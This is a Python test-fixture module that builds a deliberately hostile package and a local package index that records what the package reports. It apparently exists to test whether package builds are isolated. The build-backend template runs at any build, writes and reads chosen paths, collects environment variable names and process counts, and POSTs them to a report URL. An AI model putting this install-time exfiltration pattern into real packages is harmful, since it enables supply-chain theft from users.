"""Packages that do harm while they are built, and an index that serves them."""

import contextlib
import http.server
import io
import json
import os
import tarfile
import threading
import zipfile
from collections.abc import Iterator, Sequence
from functools import partial
from pathlib import Path
from typing import Any

NAME = "jantaku-evil"
LUCKY = "jantaku-lucky"
_BACKEND = """import json, os, urllib.request

def look(path):
    try:
        return os.listdir(path) if os.path.isdir(path) else open(path).read()
    except OSError as error:
        return type(error).__name__

def write(path):
    try:
        with open(path, "w") as file:
            file.write("here")
    except OSError as error:
        return type(error).__name__
    return "written"

def build_wheel(*_):
    said = {{
        "written": {{path: write(path) for path in {written!r}}},
        "seen": {{path: look(path) for path in {seen!r}}},
        "variables": sorted(os.environ),
        "processes": len([name for name in os.listdir("/proc") if name.isdigit()]),
    }}
    if {report!r}:
        open_ = urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open
        open_({report!r}, json.dumps(said).encode()).close()
    raise SystemExit("built")

build_editable = build_sdist = get_requires_for_build_wheel = prepare_metadata_for_build_wheel = build_wheel
"""
_SETUP = "import hostile\nhostile.build_wheel()\n"
_PROJECT = '[build-system]\nrequires = []\nbuild-backend = "hostile"\nbackend-path = ["."]\n'


def source(folder: Path, written: Sequence[Path], seen: Sequence[Path] = (), report: str = "") -> Path:
    """Write a package's source into a new folder. When it is built in any way, it writes these files, looks at these
    places and sends to `report` what it found."""
    folder.mkdir(parents=True)
    words = {"written": list(map(str, written)), "seen": list(map(str, seen)), "report": report}
    (folder / "hostile.py").write_text(_BACKEND.format(**words))
    (folder / "setup.py").write_text(_SETUP)
    (folder / "pyproject.toml").write_text(_PROJECT)
    return folder


def sdist(place: Path, folder: Path) -> Path:
    file = place / f"{NAME.replace('-', '_')}-1.0.tar.gz"
    with tarfile.open(file, "w:gz") as packed:
        about = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n".encode()
        entry = tarfile.TarInfo(f"{NAME}-1.0/PKG-INFO")
        entry.size = len(about)
        packed.addfile(entry, io.BytesIO(about))
        packed.add(folder, f"{NAME}-1.0")
    return file


def wheel(place: Path, needs: str = "", script: str = "") -> Path:
    """Make a wheel in the folder `place`, with its requirements, and a script of that name."""
    file = place / "jantaku_lucky-1.0-py3-none-any.whl"
    about, more = "jantaku_lucky-1.0.dist-info", f"Requires-Dist: {needs}\n" if needs else ""
    with zipfile.ZipFile(file, "w") as written:
        written.writestr("jantaku_lucky.py", "NUMBER = 7\n")
        if script:
            written.writestr(f"jantaku_lucky-1.0.data/scripts/{script}", "#!python\n")
        written.writestr(f"{about}/METADATA", f"Metadata-Version: 2.1\nName: {LUCKY}\nVersion: 1.0\n{more}")
        written.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        written.writestr(f"{about}/RECORD", "")
    return file


class _Handler(http.server.SimpleHTTPRequestHandler):
    reports: list[Any]

    def do_POST(self) -> None:
        self.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@contextlib.contextmanager
def serving(folder: Path) -> Iterator[tuple[str, list[Any]]]:
    """Serve these files on this machine inside the context; yield the address, and what was posted."""
    reports: list[Any] = []
    handler = type("Handler", (_Handler,), {"reports": reports})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(folder))) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", reports
        finally:
            server.shutdown()
            thread.join()


def own_pip() -> dict[str, str]:
    """Return the variables of a pip without settings and without a proxy to this machine."""
    return {"PIP_CONFIG_FILE": os.devnull, "PIP_FIND_LINKS": "", "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}
